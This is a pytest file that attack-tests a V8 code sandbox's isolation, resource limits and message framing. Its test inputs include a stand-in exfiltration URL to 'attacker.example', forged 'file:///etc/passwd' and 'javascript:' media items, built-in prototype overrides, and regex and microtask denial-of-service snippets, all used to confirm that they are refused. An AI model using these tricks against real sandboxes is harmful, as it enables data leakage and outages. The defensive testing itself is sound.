"""An attack sweep, layer by layer: cases the rest of ``tests/sandbox`` does not cover.

Each test says in a comment what protection it guards; each fails if that protection is removed.

* realm: a cell that replaces built-ins the prelude would otherwise consult while it checks what
  leaves the isolate (``Array.prototype[Symbol.iterator]`` through destructuring,
  ``String.prototype`` methods, ``RegExp.prototype.exec``, the ``Map.prototype.size`` getter)
  must not get an unchecked item out, nor lift a per-cell limit;
* resources: code that never yields (a catastrophic regular expression, endless microtasks) is
  still stopped by ``terminate``; messages too large for a frame (escaped text, a huge thrown
  string, a huge notification) end only their cell, with the spec's outcome, not the engine;
  what V8 prints to stdout (asm.js verdicts) is not read as frames;
* the engine message layer: a forged media URL that is not a ``data:`` URL, an engine that
  announces its exit and stays, out-of-range numbers and messages after a cell's end;
* the host's health: tool inputs a slow tool has not answered are bounded per session.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import os
import time
import tracemalloc
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest

from codemode.protocol import (
    CellId,
    InputImage,
    InputText,
    Result,
    RuntimeResponse,
    Terminated,
    Yielded,
)
from codemode.protocol import delegation as delegation_module
from codemode.protocol import pieces as pieces_module
from codemode.protocol.types import ImageDetail
from codemode.protocol.v1 import codec
from codemode.runtime import LocalSession, LocalSessionProvider
from codemode.runtime import cell as cell_module
from codemode.runtime import engine as engine_module
from codemode.runtime.cell import MAX_BUFFERED_OUTPUT_CHARS
from codemode.runtime.engine import _HostProtocol
from tests.contract.delegate import RecordingDelegate
from tests.loop_encodes import watch_decoders, watch_encoders
from tests.runtime.test_engine_messages import Events, wired
from tests.sandbox.conftest import start
from tests.wire import frame

pytestmark = pytest.mark.timeout(30)

AAA = "data:image/png;base64,AAA"
REMOTE = "https://attacker.example/leak?d=secret"


@pytest.fixture
async def provider() -> AsyncIterator[LocalSessionProvider]:
    async with LocalSessionProvider() as instance:
        yield instance


async def run(session: LocalSession, source: str) -> Result:
    # A long yield: some cells here move hundreds of megabytes, which on a loaded machine takes
    # longer than the usual 10 s (they yielded, and the test saw no result).
    _, response = await start(session, source, yield_ms=50_000)
    assert isinstance(response, Result), response
    return response


def texts(response: RuntimeResponse) -> list[str]:
    return [item.text for item in response.content_items if isinstance(item, InputText)]


# -- realm: the prelude's checks cannot be subverted -------------------------------------------------


async def test_destructuring_iterator_cannot_forge_an_image_item(
    provider: LocalSessionProvider,
) -> None:
    # Guards: prelude.js reads imageItem()'s [url, detail] by index, not by destructuring (which
    # runs the cell's Array.prototype[Symbol.iterator]). Without it the cell's iterator picks the
    # URL and detail sent out after every check: a remote URL (an exfiltration channel the
    # model's client may fetch), or a detail Python refuses as a breach, killing the engine.
    session = await provider.create_session(RecordingDelegate())
    result = await run(
        session,
        f"""
        let forged = [{json.dumps(REMOTE)}, 'low'];
        Array.prototype[Symbol.iterator] = function* () {{ yield forged[0]; yield forged[1]; }};
        image({json.dumps(AAA)}, 'low');
        generatedImage({{image_url: {json.dumps(AAA)}}});
        forged = ['data:image/png;base64,BBB', 'huge'];
        image({json.dumps(AAA)}, 'original');
        text('end');
        """,
    )
    assert result.error_text is None, result.error_text
    assert result.content_items == [
        InputImage(AAA, ImageDetail.LOW),
        InputImage(AAA, ImageDetail.HIGH),
        InputImage(AAA, ImageDetail.ORIGINAL),
        InputText("end"),
    ]


@pytest.mark.parametrize(
    "override",
    [
        "String.prototype.toLowerCase = function () { return 'data'; };",
        "String.prototype.slice = function () { return 'data'; };",
        "String.prototype.indexOf = function () { return -1; };",
    ],
)
async def test_string_methods_cannot_pass_a_remote_url(
    provider: LocalSessionProvider, override: str
) -> None:
    # Guards: the prelude's scheme check (schemeOf) calls captured String methods. With the live
    # String.prototype ones, a cell makes `https:` (or any scheme) look like `data:`.
    session = await provider.create_session(RecordingDelegate())
    result = await run(
        session,
        override
        + f"""
        for (const f of [() => image({json.dumps(REMOTE)}), () => audio('https://a.example/x.mp3'),
                         () => image({{image_url: 'ftp://a.example/x.png'}})]) {{
          try {{ f(); text('sent'); }} catch (e) {{ text(e); }}
        }}
        """,
    )
    assert result.error_text is None, result.error_text
    assert [item for item in result.content_items if not isinstance(item, InputText)] == []
    assert texts(result) == [
        "Tool call failed: remote image URLs are not supported in tool outputs. "
        "Pass a base64 data URI instead",
        "Tool call failed: invalid audio output. Pass a base64 data URI instead",
        "Tool call failed: invalid image output. Pass a base64 data URI instead",
    ]


async def test_regexp_exec_cannot_unblank_a_notification(provider: LocalSessionProvider) -> None:
    # Guards: the prelude tests its regular expressions with the captured RegExp.prototype.exec
    # (RegExp.prototype.test would look up the cell's `exec`): a blank notification stays refused.
    delegate = RecordingDelegate()
    session = await provider.create_session(delegate)
    result = await run(
        session,
        "RegExp.prototype.exec = function () { return null; };\n"
        "try { notify('   '); text('sent'); } catch (e) { text(e); }",
    )
    assert texts(result) == ["notify expects non-empty text"]
    assert delegate.notifications == []


async def test_map_size_cannot_lift_the_per_cell_limits(provider: LocalSessionProvider) -> None:
    # Guards: the prelude reads the size of its Maps with the captured Map.prototype.size getter.
    # With the live getter a cell returns 0 and its 10,000 timers / 4,096 unsettled tool calls are
    # unbounded (the engine's main thread then holds every timer).
    session = await provider.create_session(RecordingDelegate())
    result = await run(
        session,
        """
        Object.defineProperty(Map.prototype, 'size', {get() { return 0; }});
        try { for (let i = 0; i < 10001; i++) setTimeout(() => {}, 1e9); text('no limit'); }
        catch (e) { text(e); }
        let refused = 0;
        for (let i = 0; i < 4100; i++) {
          tools.block({}).catch((e) => { if (String(e).startsWith('too many pending')) refused++; });
        }
        await null; await null;
        text('refused ' + refused);
        """,
    )
    assert texts(result) == [
        "setTimeout exceeded the limit of 10000 pending timers",
        "refused 4",
    ], result.error_text


# -- resources: what never yields is still stopped ----------------------------------------------------


@pytest.mark.parametrize(
    "source",
    [
        "/^(a+)+$/.test('a'.repeat(64) + 'b');",  # catastrophic backtracking, in native code
        "const f = () => Promise.resolve().then(f); f(); text('body done');",  # after the body
        "for (;;) await null;",  # a body that only ever awaits settled values
        "const f = () => { try { f(); } catch (e) { f(); } }; f();",  # exponential overflow loop
    ],
    ids=["regex", "microtasks_after_body", "await_loop", "stack_overflow_loop"],
)
async def test_code_that_never_yields_is_terminated(
    provider: LocalSessionProvider, source: str
) -> None:
    # Guards: terminate disposes the cell's isolate (host.js terminate), which stops V8 inside a
    # regular expression or a microtask checkpoint; the session's next cell runs.
    session = await provider.create_session(RecordingDelegate())
    cell_id, response = await start(session, source, yield_ms=200)
    assert isinstance(response, Yielded), response
    outcome = await asyncio.wait_for(session.terminate(cell_id), 5)
    assert isinstance(outcome.response, Terminated), outcome
    after = await run(session, "text('alive')")
    assert texts(after) == ["alive"]


# -- resources: messages too large for one frame end only their cell ------------------------------


async def parked(session: LocalSession) -> CellId:
    cell_id, response = await start(session, "text('parked'); await new Promise(() => {});", 0)
    assert isinstance(response, Yielded)
    return cell_id


@contextlib.asynccontextmanager
async def engine_survives(session: LocalSession) -> AsyncIterator[None]:
    """A cell parked before the block is still there after it, in the same engine process."""
    parked_id = await parked(session)
    pid = session.engine.pid if session.engine is not None else None
    yield
    engine = session.engine
    assert engine is not None and engine.pid == pid, "the engine process was replaced"
    outcome = await asyncio.wait_for(session.terminate(parked_id), 5)
    assert isinstance(outcome.response, Terminated), outcome


async def test_an_item_that_escapes_past_the_frame_cap_ends_only_its_cell(
    provider: LocalSessionProvider,
) -> None:
    # Guards: host.js cuts an item longer than a frame can carry once escaped (50 M control
    # characters are 300 MB of JSON, over Python's 256 MiB frame cap: a breach that killed the
    # engine and every cell in it). Cut, it still ends its cell with the spec's output limit.
    session = await provider.create_session(RecordingDelegate())
    async with engine_survives(session):
        # A 3 MB item just before it (host.js sends a large message alone in its frame).
        source = (
            "const a = 'y'.repeat(3e6), b = '\\u0001'.repeat(50e6); a.at(-1); b.at(-1);\n"
            "text(a); text(b); text('after')"
        )
        result = await run(session, source)
        assert result.error_text == (
            f"exec cell output exceeds the limit of {MAX_BUFFERED_OUTPUT_CHARS} characters"
        )


async def test_what_v8_prints_to_stdout_does_not_reach_the_frames(
    provider: LocalSessionProvider,
) -> None:
    # Guards: the engine's frames travel on a descriptor of their own, not stdout. V8 prints its
    # asm.js verdicts there ("Invalid asm.js: ..."): read as frames, they were a breach that
    # killed the engine and every cell in it (with a shared engine, every session's).
    session = await provider.create_session(RecordingDelegate())
    async with engine_survives(session):
        source = (
            '"use asm"; text("asm");\n'
            'function m() { "use asm"; function f() { return 1; } return { f: f }; }\n'
            "text(String(m().f()))"
        )
        assert texts(await run(session, source)) == ["asm", "1"]


async def test_a_huge_thrown_string_is_cut_and_the_engine_survives(
    provider: LocalSessionProvider,
) -> None:
    # Guards: host.js cuts an error text as Python does (16 Mi characters and a note) before it
    # sends it: 2^28 characters were a frame over the cap, i.e. a breach and a dead engine.
    session = await provider.create_session(RecordingDelegate())
    async with engine_survives(session):
        result = await run(session, "throw 'x'.repeat(2 ** 28)")
        cut = cell_module.MAX_ERROR_TEXT_CHARS
        assert result.error_text == "x" * cut + f"\n… (error text cut: {2**28} characters in all)"


async def test_a_notification_too_large_for_a_frame_is_dropped(
    provider: LocalSessionProvider,
) -> None:
    # Guards: host.js drops a notification whose JSON would pass the frame cap (45 M control
    # characters: 270 MB); the cell goes on, as after any failed delivery.
    delegate = RecordingDelegate()
    session = await provider.create_session(delegate)
    async with engine_survives(session):
        result = await run(
            session, "notify('\\u0001'.repeat(45e6)); notify('small'); text('went on')"
        )
        assert result.error_text is None, result.error_text[:200]
        assert texts(result) == ["went on"]
        assert [text for _, _, text in delegate.notifications] == ["small"]


async def test_a_tool_input_too_large_for_a_frame_is_refused_to_the_cell(
    provider: LocalSessionProvider,
) -> None:
    # Guards: host.js refuses (as the call's rejection) a tool input within the prelude's
    # 128 Mi-character limit whose JSON would still pass the frame cap: 90 M CJK characters are
    # 270 MB of UTF-8, which was a breach that killed the engine and every cell in it.
    session = await provider.create_session(RecordingDelegate())
    async with engine_survives(session):
        result = await run(
            session,
            "text(await tools.echo({s: '\u4e2d'.repeat(90e6)}).then(() => 'sent', (e) => e))",
        )
        assert texts(result) == ["tool input of 90000008 characters is too large to send"]


# -- the host's health: unsettled tool inputs ---------------------------------------------------------


async def test_unsettled_tool_inputs_of_a_session_are_bounded(
    provider: LocalSessionProvider, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Guards: cell.py counts the characters of the inputs (and notification texts) a session's
    # delegate holds unsettled, and refuses a call past MAX_PENDING_INPUT_CHARS. Without it,
    # 1,024 calls of 128 Mi characters to a slow tool sit in this process at once (measured:
    # 40 calls of 20 M characters grew the host by 800 MB). Lowered here to keep the test fast.
    monkeypatch.setattr(cell_module, "MAX_PENDING_INPUT_CHARS", 1_000_000)
    delegate = RecordingDelegate()
    session = await provider.create_session(delegate)
    result = await run(
        session,
        """
        const s = 'x'.repeat(400000);
        const held = [tools.block({s}), tools.block({s})];
        const third = await tools.block({s}).then(() => 'sent', (e) => e);
        text(third);
        text(await tools.echo({small: true}).then((r) => JSON.stringify(r), (e) => e));
        """,
    )
    assert texts(result)[0].startswith("tool call refused: the unsettled tool inputs"), texts(
        result
    )
    assert texts(result)[1] == '{"small":true}'
    assert len([c for c in delegate.calls if c.tool_name.name == "block"]) == 2
    # The cell ended: its calls were cancelled and their inputs released.
    for _ in range(100):
        if session.pending_input_chars == 0:
            break
        await asyncio.sleep(0.02)
    assert session.pending_input_chars == 0
    again = await run(
        session,
        "const s = 'x'.repeat(400000); tools.block({s}); tools.block({s}); "
        "text(await tools.block({s}).then(() => 'sent', (e) => 'refused'))",
    )
    assert texts(again) == ["refused"]


# -- the engine message layer: forged frames ----------------------------------------------------------


@pytest.mark.parametrize(
    "message",
    [
        {"t": "item", "cell": 1, "type": "input_image", "value": REMOTE, "detail": "low"},
        {"t": "item", "cell": 1, "type": "input_audio", "value": "file:///etc/passwd"},
        {"t": "item", "cell": 1, "type": "input_image", "value": "javascript:x", "detail": "high"},
    ],
)
async def test_a_forged_media_item_that_is_not_a_data_url_is_a_breach(
    message: dict[str, Any],
) -> None:
    # Guards: engine.py refuses image and audio items whose URL is not a data: URL (the prelude
    # and host.js send no other); a compromised engine cannot hand the model's client a URL.
    engine, protocol, events, transport = wired()
    protocol.data_received(frame(json.dumps([message]).encode()))
    assert transport.killed
    assert events.seen == [("exited", "crashed")]
    assert engine.live_cells == 0


async def test_an_engine_that_announces_its_exit_and_stays_is_stopped(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    # Guards: engine.py stops an engine that sent `exiting` and did not exit within
    # EXITING_GRACE. Without it `start()` (which waits for the announced exit) waits forever: a
    # shared engine then hangs every session's next cell.
    monkeypatch.setattr(engine_module, "EXITING_GRACE", 0.05)
    engine, protocol, events, transport = wired()
    protocol.data_received(frame(b'[{"t":"exiting"}]'))
    assert not transport.killed and not engine.running
    await asyncio.sleep(0.3)
    assert transport.killed
    assert events.seen == [("exited", "crashed")]


@pytest.mark.parametrize(
    "body",
    [
        b'[{"t":"call","cell":1,"id":"x","tool":1e400,"input":null}]',
        b'[{"t":"call","cell":1,"id":"x","tool":1.5,"input":null}]',
        b'[{"t":"done","cell":1,"error":null,"writes":"[[1,2]]"}]',  # a key that is no string
        b'[{"t":"done","cell":1,"error":null,"writes":"{\\"k\\":1}"}]',  # not a list
        b'[{"t":"item","cell":1,"type":"input_image","value":"data:x"}]',  # image without detail
        b"[" + b'{"t":"ready"},' * 1000 + b'{"t":"bogus"}]',  # bad message after many good
        # Guards: engine.py bounds a call id (each unsettled call keeps it in this process, and
        # the session's input budget counts inputs only) and an exit detail (it is logged).
        json.dumps([{"t": "call", "cell": 1, "id": "t" * 65, "tool": 0, "input": None}]).encode(),
        json.dumps(
            [{"t": "exited", "cell": 1, "reason": "crashed", "detail": "d" * 70000}]
        ).encode(),
    ],
)
async def test_out_of_range_and_malformed_fields_end_only_the_engine(body: bytes) -> None:
    # Already safe (untested): numbers out of range, writes of the wrong shape and a bad message
    # deep in a batch are breaches handled by ending the engine, never an exception in Python.
    engine, protocol, events, transport = wired()
    protocol.data_received(frame(body))
    assert transport.killed
    assert events.seen[-1] == ("exited", "crashed")
    assert engine.live_cells == 0


@pytest.mark.parametrize("messages", [1025, 2_000_000], ids=["one-too-many", "millions"])
async def test_a_frame_of_more_messages_than_host_js_sends_is_a_breach(messages: int) -> None:
    # Guards: engine.py refuses a frame of more than 1,024 messages (host.js sends one when it
    # has that many) before any is dispatched: a compromised engine's flood in one frame is not
    # served, and the engine ends.
    _, protocol, events, transport = wired()
    body = "[" + ",".join(['{"t":"started","cell":9}'] * messages) + "]"
    protocol.data_received(frame(body.encode()))
    async with asyncio.timeout(10):  # a frame of 1 MiB or more is decoded on a worker thread
        while not transport.killed:
            await asyncio.sleep(0.01)
    assert events.seen[-1] == ("exited", "crashed")


async def test_a_full_frame_of_texts_of_braces_and_quotes_is_not_a_breach() -> None:
    # Guards the count above: it counts messages, not braces and quotes inside texts.
    _, protocol, events, transport = wired()
    batch = [
        {"t": "item", "cell": 1, "type": "input_text", "value": '{"k":"v"}' * 50}
    ] * engine_module.MAX_FRAME_MESSAGES
    protocol.data_received(frame(json.dumps(batch).encode()))
    async with asyncio.timeout(5):
        while len(events.seen) < len(batch):  # dispatched in slices of DISPATCH_SLICE
            await asyncio.sleep(0.01)
    assert not transport.killed


async def test_integers_beyond_64_bits_are_harmless() -> None:
    # Already safe (untested): msgspec decodes integers of any size; a turn or a cell number far
    # beyond 64 bits reaches no arithmetic that could fail (an unknown cell is ignored).
    engine, protocol, events, transport = wired()
    huge = 123456789012345678901234567890
    body = json.dumps([{"t": "yield", "cell": 1, "turn": huge}, {"t": "started", "cell": -huge}])
    protocol.data_received(frame(body.encode()))
    assert not transport.killed
    assert events.seen == [("yield", huge)]
    assert engine.live_cells == 1


async def test_messages_after_a_cells_end_are_ignored() -> None:
    # Already safe (untested): an engine that keeps talking about a cell after its `exited`
    # (items, calls, a second end) reaches no handler of that cell.
    engine, protocol, events, transport = wired()
    batch = [
        {"t": "done", "cell": 1, "error": None, "writes": "[]"},
        {"t": "exited", "cell": 1, "reason": "stopped"},
        {"t": "item", "cell": 1, "type": "input_text", "value": "late"},
        {"t": "call", "cell": 1, "id": "tool-9", "tool": 0, "input": None},
        {"t": "done", "cell": 1, "error": "again", "writes": "[]"},
        {"t": "exited", "cell": 1, "reason": "crashed"},
    ]
    protocol.data_received(frame(json.dumps(batch).encode()))
    assert not transport.killed
    assert events.seen == [("done", (None, [], None)), ("exited", "stopped")]
    assert engine.live_cells == 0


async def test_writes_of_too_many_entries_are_refused_before_they_are_decoded() -> None:
    # Guards: engine.py counts a `done`'s store entries (each an array, every other array inside
    # a string: values travel as texts) before it decodes them, and refuses more than a prelude
    # can write, as host.js does. Decoded, 25 million tiny entries within a frame held the event
    # loop every session shares for seconds and took gigabytes (3 million: 2.2 s, 0.7 GiB).
    _, protocol, events, transport = wired()
    many = "[" + ",".join(['["k","0"]'] * (engine_module.MAX_WRITE_ENTRIES + 1)) + "]"
    # Brackets inside keys and values are no entries: within the bound, however many.
    nested = json.dumps([["[" * 10, "[" * (engine_module.MAX_WRITE_ENTRIES + 1)]])
    batch = [
        {"t": "done", "cell": 1, "error": None, "writes": many},
        {"t": "done", "cell": 1, "error": None, "writes": nested},
    ]
    protocol.data_received(frame(json.dumps(batch).encode()))
    async with asyncio.timeout(5):
        while len(events.seen) < len(batch):  # dispatched in slices of DISPATCH_SLICE
            await asyncio.sleep(0.01)
    assert not transport.killed
    assert events.seen == [
        ("done", (engine_module.WRITES_TOO_MANY, [], None)),
        ("done", (None, [("[" * 10, "[" * (engine_module.MAX_WRITE_ENTRIES + 1))], None)),
    ]


def test_counting_a_tool_inputs_values_costs_no_object_per_string() -> None:
    # Guards: cell.py counts a tool input's values before it decodes it, and takes the strings
    # out (an object per string) only when there are no more of them than values allowed. A
    # cell's `tools.echo(new Array(40e6).fill(''))`, within the prelude's bound on an input, held
    # the event loop every session shares for 4 s and took 1 GiB just to be refused.
    text = "[" + ",".join(['""'] * (cell_module.MAX_PENDING_INPUT_VALUES + 1)) + "]"
    tracemalloc.start()
    try:
        values, _ = cell_module._json_counts(
            text, cell_module.MAX_PENDING_INPUT_VALUES, cell_module.MAX_PENDING_INPUT_CONTAINERS
        )
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert values > cell_module.MAX_PENDING_INPUT_VALUES
    assert peak < len(text) // 8, peak  # the split alone took eight times the text


async def test_items_after_a_termination_began_stay_within_the_buffer_bound(
    provider: LocalSessionProvider,
) -> None:
    # Guards: cell.py keeps taking items while a cell terminates (they belong to its
    # `Terminated`) only up to the buffer bound; an engine that keeps sending cannot grow the
    # buffer of a terminating cell without end.
    session = await provider.create_session(RecordingDelegate())
    cell_id = await parked(session)
    cell = session._cells[cell_id]
    # A yield time of 0 answers before the cell's first run: its own text('parked') must be in
    # before the state is forced (arriving after it, it would end the cell on the output limit).
    async with asyncio.timeout(5):
        while not cell._items:
            await asyncio.sleep(0.01)
    cell._state = cell_module._State.TERMINATING
    chunk = "x" * (1024 * 1024)
    try:
        for _ in range(40):
            cell.on_item(InputText(chunk))
        buffered = cell._buffered
    finally:
        cell._state = cell_module._State.RUNNING
    assert buffered <= MAX_BUFFERED_OUTPUT_CHARS + len(chunk) + cell_module.ITEM_OVERHEAD_CHARS
    outcome = await asyncio.wait_for(session.terminate(cell_id), 5)
    assert isinstance(outcome.response, Terminated)


async def test_a_notification_past_the_session_budget_is_dropped(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    # Guards: cell.py counts unsettled notification texts in the same session budget as tool
    # inputs (a delegate slow to deliver holds each one): past it, a notification is dropped
    # (logged), and the cell goes on, as after any failed delivery.
    monkeypatch.setattr(cell_module, "MAX_PENDING_INPUT_CHARS", 1_000_000)
    async with LocalSessionProvider() as provider:
        delegate = RecordingDelegate(notify_mode="delay", notify_delay=0.3)
        session = await provider.create_session(delegate)
        result = await run(
            session,
            "notify('a'.repeat(600000)); notify('b'.repeat(600000)); "
            "await new Promise((r) => setTimeout(r, 50)); text('went on')",
        )
        assert texts(result) == ["went on"]
        assert [text[0] for _, _, text in delegate.notifications] == ["a"]


async def test_the_engine_of_a_session_runs_confined_with_nothing_of_ours(
    provider: LocalSessionProvider, monkeypatch: pytest.MonkeyPatch
) -> None:
    # Guards, on the spawn path sessions really use (engine.py): the minimal environment (a
    # secret of this process does not reach the engine), `/` as working directory, Node's
    # permission model, and the OS layers this machine has (no_new_privs and seccomp mode 2).
    from codemode.runtime import confinement

    monkeypatch.setenv("CODEMODE_SWEEP_SECRET", "sweep-secret-token")
    session = await provider.create_session(RecordingDelegate())
    assert texts(await run(session, "text('up')")) == ["up"]
    engine = session.engine
    assert engine is not None and engine.pid is not None
    proc = f"/proc/{engine.pid}"
    try:
        environ = Path(f"{proc}/environ").read_bytes()
        cmdline = Path(f"{proc}/cmdline").read_bytes().split(b"\0")
        status = Path(f"{proc}/status").read_text()
        cwd = os.readlink(f"{proc}/cwd")
    except OSError as error:
        pytest.skip(f"cannot inspect the engine process: {error}")
    assert b"sweep-secret-token" not in environ
    assert b"CODEMODE_SWEEP_SECRET" not in environ
    assert cwd == "/"
    assert b"--permission" in cmdline
    report = confinement.probe()
    if report.seccomp or report.landlock:
        assert "NoNewPrivs:\t1" in status
    if report.seccomp:
        assert "Seccomp:\t2" in status


# -- one engine's burst of messages shares the event loop ------------------------------------------


class SlowEvents(Events):
    """Each message takes a millisecond to handle (as a tool call's eager start can)."""

    def on_notify(self, text: str) -> None:
        time.sleep(0.001)
        super().on_notify(text)


def _burst(count: int) -> bytes:
    return frame([{"t": "notify", "cell": 1, "text": str(i)} for i in range(count)])


async def test_a_burst_of_engine_messages_lets_other_callbacks_run_in_between() -> None:
    # Guards: engine.py dispatches an engine's messages in slices of DISPATCH_SLICE seconds.
    # A frame of 1,024 tool calls (≈0.1 ms each) held the loop every session shares for
    # 0.1-0.2 s per frame, so another session's cell waited that long for each of its steps.
    engine, protocol, _, _ = wired()
    events = engine._cells[1] = SlowEvents()
    loop = asyncio.get_running_loop()
    seen_by_other: list[int] = []  # another session's callback, ready again every iteration

    def other() -> None:
        seen_by_other.append(len(events.seen))
        if len(events.seen) < 400:
            loop.call_soon(other)

    loop.call_soon(other)  # ready before the frames arrive
    protocol.data_received(_burst(200) + _burst(200))  # ≥ 0.4 s of work in all
    assert 0 < len(events.seen) < 400
    for _ in range(2000):
        if len(events.seen) == 400:
            break
        await asyncio.sleep(0)
    assert [text for _, text in events.seen] == [str(i) for i in range(200)] * 2  # in order
    # The other callback ran between slices, not once the whole burst was handled.
    assert seen_by_other[0] < 400
    assert len([n for n in seen_by_other if n < 400]) >= 10


async def test_the_engine_pipe_is_not_read_while_a_burst_is_pending() -> None:
    # What the engine sends after the burst waits in the pipe (the engine then waits for
    # Python, as on a full pipe) and is dispatched after it, in order.
    engine, protocol, _, _ = wired()
    events = engine._cells[1] = SlowEvents()
    read_end, write_end = os.pipe()
    loop = asyncio.get_running_loop()
    output, _ = await loop.connect_read_pipe(lambda: protocol, os.fdopen(read_end, "rb", 0))
    engine._output = output
    engine._reader = protocol
    try:
        os.write(write_end, _burst(300))
        for _ in range(1000):
            if events.seen:
                break
            await asyncio.sleep(0.001)
        assert not output.is_reading()  # paused with the rest of the burst pending
        os.write(write_end, frame(b'[{"t":"yield","cell":1,"turn":7}]'))
        for _ in range(5000):
            if len(events.seen) == 301:
                break
            await asyncio.sleep(0.001)
        assert events.seen[-1] == ("yield", 7)
        assert [text for _, text in events.seen[:-1]] == [str(i) for i in range(300)]
        assert output.is_reading()
    finally:
        os.close(write_end)
        output.close()


async def test_an_exit_during_a_burst_comes_after_the_whole_burst() -> None:
    engine, protocol, _, _ = wired()
    events = engine._cells[1] = SlowEvents()
    engine._reader = protocol
    protocol.data_received(_burst(100))
    assert len(events.seen) < 100
    _HostProtocol(engine).process_exited()
    assert len(events.seen) == 101
    assert events.seen[-1] == ("exited", "crashed")
    await asyncio.sleep(0.01)  # the slice that was due does nothing more
    assert len(events.seen) == 101


# -- the host's health: a large store reaches a fresh engine off the event loop -------------------


#: Text that JSON escapes heavily, with characters of every UTF-8 length.
ESCAPED = '\\"\x01\x1f\u2028é一😀x'


def test_store_frames_made_in_pieces_are_those_put_store_sends(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    # The frames of a large store, made a piece at a time, are byte for byte what one encoding of
    # each `store` message makes (pieces cut anywhere, even between a character's escapes).
    monkeypatch.setattr(engine_module, "STORE_PIECE_CHARS", 3)
    monkeypatch.setattr(engine_module, "STORE_CHUNK_CHARS", 40)
    entries = [(f"k{i}{ESCAPED[: i % 9]}", ESCAPED * i) for i in range(12)] + [("", "")]
    frames = engine_module._store_frames(7, entries)
    assert len(frames) > 2
    put: list[list[str]] = []
    for made in frames:
        (message,) = json.loads(bytes(made[4:]))
        assert set(message) == {"t", "scope", "put"}
        assert bytes(made) == bytes(codec.encode_frame([message], 2**32 - 1))
        put += message["put"]
    assert put == [list(entry) for entry in entries]


async def test_a_large_store_is_copied_to_a_fresh_engine_off_the_event_loop(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    # Guards: a session's store reaches a fresh engine (after the session was idle, or its engine
    # died) in frames encoded on a worker thread, a piece at a time (session.py _copy_store,
    # engine.py put_store_off_loop). Encoded on the event loop every session shares, one frame at
    # a time, four values of 33 M backslashes (within one session's bounds) held it for 2.3 s
    # whenever the session ran a cell after a pause of 30 s.
    on_the_loop = watch_encoders(monkeypatch, codec, engine_module).sizes
    value = f"{json.dumps(ESCAPED)}.repeat(400000)"  # 4 M characters, 21 M in its JSON text
    async with LocalSessionProvider(idle_engine_timeout=0.05) as quick:
        session = await quick.create_session(RecordingDelegate())
        stored = await run(session, f"store('k', {value}); text('stored')")
        assert texts(stored) == ["stored"], stored.error_text
        async with asyncio.timeout(10):
            while session.engine is not None:  # taken back: the next cell gets a fresh one
                await asyncio.sleep(0.01)
        on_the_loop.clear()
        assert texts(await run(session, f"text(String(load('k') === {value}))")) == ["true"]
    assert on_the_loop and max(on_the_loop) < 1024 * 1024, on_the_loop


# -- the host's health: escape-heavy strings reach Python in pieces -----------------------------


@pytest.mark.parametrize(
    ("source", "check"),
    [
        ("await tools.echo({s: '\\\\'.repeat(3e6)}); text('ok')", "ok"),
        ("text('\\x01'.repeat(3e6))", "\x01" * 3_000_000),
        ("notify('\\x01'.repeat(3e6)); text('ok')", "ok"),
        ("store('k', '\\\\'.repeat(3e6)); text('ok')", "ok"),
    ],
    ids=["tool-input", "text", "notify", "store"],
)
async def test_no_decode_of_a_long_escaped_string_is_one_call(
    monkeypatch: pytest.MonkeyPatch, source: str, check: str
) -> None:
    # Guards: the engine's long strings are decoded a piece at a time (engine.py
    # _decoded_large, protocol/pieces.py), and a long tool input or long store writes travel as
    # JSON values, escaped once (host.js Spliced). msgspec holds the GIL through one call and
    # decodes escaped text at 250-500 MB/s: one frame of 63 M backslashes held the event loop
    # every session shares for 1.2 s, on a worker thread as much as on the loop.
    sizes = watch_decoders(  # the input of every decode, on any thread
        monkeypatch,
        (engine_module, "_BATCH"),
        (engine_module, "_WRITES"),
        (cell_module, "_DECODER"),
        (pieces_module, "_STRING"),
    )
    async with LocalSessionProvider() as fresh:
        delegate = RecordingDelegate()
        session = await fresh.create_session(delegate)
        result = await run(session, source)
        assert texts(result) == [check], result.error_text
        if "echo" in source:
            assert delegate.calls[-1].input == {"s": "\\" * 3_000_000}
        if "store" in source:
            loaded = await run(session, "text(String(load('k') === '\\\\'.repeat(3e6)))")
            assert texts(loaded) == ["true"]
    assert max(sizes) <= pieces_module.PIECE + 2, sorted(sizes)[-3:]


@pytest.mark.parametrize(
    "character", ["\\\\", '\\"', "\\x01"], ids=["backslash", "quote", "control"]
)
async def test_a_long_tool_result_is_encoded_off_the_event_loop(
    monkeypatch: pytest.MonkeyPatch, character: str
) -> None:
    # Guards: a tool's result of more than a piece reaches the engine in a frame encoded on a
    # worker thread, a piece at a time (cell.py _settle_call, engine.py result_frame). A tool that
    # hands back what the cell gave it (`echo`) let one cell have its escape-heavy text encoded
    # on the event loop every session shares, twice (the result's JSON, then that text as a
    # string in the frame): 40 M backslashes held it for 1.0 s per call.
    on_the_loop = watch_encoders(monkeypatch, codec, engine_module, delegation_module).sizes
    value = f"'{character}'.repeat(3e6)"
    async with LocalSessionProvider() as fresh:
        session = await fresh.create_session(RecordingDelegate())
        source = f"const r = await tools.echo({{s: {value}, n: [1, 2.5, '\u00e9\u2028']}});\n"
        source += f"text(String(r.s === {value}) + ' ' + JSON.stringify(r.n))"
        result = await run(session, source)
        assert texts(result) == ['true [1,2.5,"\u00e9\u2028"]'], result.error_text
    assert on_the_loop and max(on_the_loop) < 1024 * 1024, sorted(on_the_loop)[-3:]
